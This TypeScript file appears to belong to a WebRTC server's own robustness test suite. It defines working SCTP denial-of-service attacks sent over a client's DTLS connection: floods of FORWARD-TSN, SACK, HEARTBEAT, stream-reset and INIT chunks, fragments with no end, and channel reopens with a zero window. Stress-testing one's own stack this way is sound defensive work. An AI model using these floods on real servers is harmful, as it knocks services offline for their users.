import { setTimeout as sleep } from 'node:timers/promises';
import { CHUNK, chunk, chunks, data, FIRST, LAST, packet, UNORDERED, u16, u32 } from '../../test/attacks/sctp/wire.ts';
import type { RtcClient } from '../../test/support/rtc-client.ts';
import type { Attack } from './attack.ts';

const COOKIE = 7;
const HEARTBEAT = chunk(4, 0, Buffer.from([0, 1, 0, 4]));
const RECONFIG = 130;
const STREAMS = 300;
const PPID_BINARY = 53;
const PPID_DCEP = 50;
const OPEN = Buffer.concat([Buffer.from([3, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0]), Buffer.from('x')]);

/** The attacker's end of an association, over the DTLS of a client. */
class Association {
  tag = 0;
  tsn = 1000;
  /** The server's highest number. */
  theirs = 0;
  readonly #client: RtcClient;

  constructor(client: RtcClient) {
    this.#client = client;
  }

  send(bytes: Buffer): void {
    this.#client.dtls.sendData(bytes);
  }

  make(...list: Buffer[]): Buffer {
    return packet(this.tag, ...list);
  }

  async open(): Promise<void> {
    let cookie: Buffer | undefined;
    let up = false;
    this.#client.dtls.dataReceiver = (bytes) => {
      for (const { type, body } of chunks(bytes)) {
        if (type === CHUNK.initAck) {
          this.tag = body.readUInt32BE(0);
          this.theirs = body.readUInt32BE(12) - 1;
          for (let at = 16; at + 4 <= body.length; at += 4 * Math.ceil(body.readUInt16BE(at + 2) / 4))
            if (body.readUInt16BE(at) === COOKIE) cookie = body.subarray(at + 4, at + body.readUInt16BE(at + 2));
        } else if (type === CHUNK.cookieAck) up = true;
        else if (type === CHUNK.data) this.theirs = body.readUInt32BE(0);
      }
    };
    const init = chunk(
      CHUNK.init,
      0,
      Buffer.concat([u32(7, 1 << 20), u16(65_535, 65_535), u32(this.tsn), Buffer.from('c0000004', 'hex')]),
    );
    for (let tries = 0; tries < 50 && !up; tries++) {
      this.send(cookie ? this.make(chunk(CHUNK.cookieEcho, 0, cookie)) : packet(0, init));
      await sleep(100);
    }
    if (!up) throw new Error('no association');
  }
}

const sctp = (
  name: string,
  make: (association: Association) => Buffer,
  prepare: (association: Association) => Buffer[] = () => [],
): Attack => ({
  name: `SCTP: ${name}`,
  run: (target) =>
    target.again({ data: true }, async (client, alive) => {
      const association = new Association(client);
      await association.open();
      target.tally.reached = 'SCTP';
      for (const bytes of prepare(association)) {
        await target.pace(bytes.length);
        association.send(bytes);
      }
      await target.flood(
        () => make(association),
        (bytes) => association.send(bytes),
        alive,
      );
    }),
});

/** An outgoing reset of 16 streams (RFC 6525). */
const reset = (a: Association) =>
  chunk(
    RECONFIG,
    0,
    Buffer.concat([u16(13, 48), u32(a.tsn, 0, a.tsn++), u16(...Array.from({ length: 16 }, (_, i) => 2 * i))]),
  );

const fragments = (flags: number) => (a: Association) =>
  a.make(...Array.from({ length: 55 }, () => data(a.tsn++, 4, 0, PPID_BINARY, flags, Buffer.from([1]))));

export const SCTP: readonly Attack[] = [
  sctp(
    '100 FORWARD-TSN a packet',
    (a) => a.make(...Array.from({ length: 100 }, () => chunk(CHUNK.forwardTsn, 0, u32(a.tsn++)))),
    (a) =>
      Array.from({ length: Math.ceil(65_536 / STREAMS) }, (_, n) =>
        a.make(
          chunk(
            CHUNK.forwardTsn,
            0,
            Buffer.concat([
              u32(a.tsn++),
              u16(...Array.from({ length: STREAMS }, (_, i) => [n * STREAMS + i, 0]).flat()),
            ]),
          ),
        ),
      ),
  ),
  sctp('70 SACKs of 8192 numbers a packet', (a) =>
    a.make(
      ...Array.from({ length: 70 }, () =>
        chunk(CHUNK.sack, 0, Buffer.concat([u32(a.theirs, 1 << 20), u16(1, 0, 2, 8192)])),
      ),
    ),
  ),
  sctp('ordered fragments without an end', fragments(0), (a) => [
    a.make(data(a.tsn++, 4, 0, PPID_BINARY, FIRST, Buffer.from([1]))),
  ]),
  sctp('unordered fragments without an end', fragments(UNORDERED)),
  sctp('25 channels opened again, window 0', (a) =>
    a.make(
      chunk(CHUNK.sack, 0, Buffer.concat([u32(a.theirs, 0), u16(0, 0)])),
      ...Array.from({ length: 25 }, () => data(a.tsn, 6, a.tsn++, PPID_DCEP, FIRST | LAST, OPEN)),
    ),
  ),
  sctp('numbers out of order, and again', (a) => {
    a.tsn += 2;
    return a.make(...[0, 0, 0].map(() => data(a.tsn, 4, 0, PPID_BINARY, FIRST | LAST | UNORDERED, Buffer.from([1]))));
  }),
  sctp('160 HEARTBEATs a packet', (a) => a.make(...Array<Buffer>(160).fill(HEARTBEAT))),
  sctp('stream resets', (a) => a.make(...Array.from({ length: 20 }, () => reset(a)))),
  sctp('INIT again and again', (a) =>
    packet(0, chunk(CHUNK.init, 0, Buffer.concat([u32(9, 1 << 20), u16(65_535, 65_535), u32(a.tsn++)]))),
  ),
];
